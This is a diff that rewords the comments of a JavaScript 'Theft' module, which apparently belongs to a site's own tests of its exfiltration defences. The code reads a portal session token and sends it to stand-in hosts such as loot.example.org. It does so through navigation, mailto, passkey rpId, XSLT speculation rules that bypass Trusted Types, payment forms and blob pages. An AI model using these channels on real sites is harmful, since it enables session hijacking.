@@ -1,6 +1,6 @@
 /**
- * Theft: once mounted it watches everything that passes through the page's prototypes. `globalThis.rob(way, thief)` looks wherever a
- * session could be, sends the findings so far to another site in the given way, and returns all of them.
+ * Theft: once mounted, it watches everything that passes through the page's prototypes. `globalThis.rob(way, thief)` looks wherever a
+ * session could be, sends what it has found to another site in the given way, and returns it all.
  */
 export default () => {
   const loot = [];
@@ -56,11 +56,11 @@ export default () => {
     new Promise((resolve) => {
       for (const event of ['load', 'error']) thing.addEventListener(event, resolve);
     });
-  /** Resolves when everything that would be sent has left. */
+  /** Leaves time for requests to be sent. */
   const wait = () => new Promise((resolve) => setTimeout(resolve, 300));
   const cardProvider = () => document.querySelector('meta[name=portal-card-form]').content;
   const all = () => loot.join('\n');
-  /** A session is short, a page is long: the last session is at the end of the findings. */
+  /** The end of the findings, where the latest session is: a session is short, but a page is long. */
   const query = () => encodeURIComponent(`${localStorage.getItem('portal-token')} ${all().slice(-3000)}`);
 
   const ways = {
@@ -132,17 +132,17 @@ export default () => {
       location.assign(`${thief}/navigation?${query()}`);
       return wait();
     },
-    /** Another program would bring it: the one for mails, or for chats. */
+    /** Uses another program, such as one for mail or chat. */
     mail(thief) {
       location.assign(`mailto:thief@example.org?body=${thief}/mail?${query()}`);
       return wait();
     },
-    /** Before it shows anything, the browser asks the site whose keys are wanted, by a name that may carry findings. */
+    /** Uses passkeys: before it shows anything, the browser asks the key's site, whose name can carry findings. */
     keys: () =>
       navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: 'loot.example.org' } }).catch(({ name, message }) => {
         take(`keys: ${name} ${message}`);
       }),
-    /** Rules by which the browser prefetches a page, as an element that XSLT makes: Trusted Types don't cover that. */
+    /** Uses speculation rules to prefetch a page, in an element made by XSLT, which Trusted Types don't cover. */
     speculation(thief) {
       const space = 'http://www.w3.org/1999/XSL/Transform';
       const sheet = document.implementation.createDocument(space, 'xsl:stylesheet');
@@ -161,25 +161,25 @@ export default () => {
       document.head.append(processor.transformToFragment(document.implementation.createDocument('', 'a'), document));
       return wait();
     },
-    /** The card provider counts what its visitors bring, and shows it to whoever has an account there. */
+    /** Uses the card provider, which logs its visitors' queries and shows them to account holders. */
     gateway() {
       location.assign(`${cardProvider()}/?${query()}`);
       return wait();
     },
-    /** A card form for the thief's own account there. */
+    /** Uses a card form for the thief's own account there. */
     payment() {
       const form = element('form', { method: 'post', action: `${cardProvider()}/pay` });
       form.append(Object.assign(document.createElement('input'), { name: 'profile_id', value: 'thief' }));
       form.submit();
       return wait();
     },
-    /** A page of its own instead of ours, without our watches. */
+    /** Replaces our page with its own, without our safeguards. */
     made(thief) {
       const page = `<meta http-equiv="refresh" content="0;url=${thief}/made?${query()}">`;
       location.assign(URL.createObjectURL(new Blob([page], { type: 'text/html' })));
       return wait();
     },
-    /** Under the member's finger, the whole page is a link. */
+    /** Covers the whole page with a link for the member to press. */
     pressed(thief) {
       window.name = localStorage.getItem('portal-token');
       const link = element('a', { href: `${thief}/pressed?${query()}` });
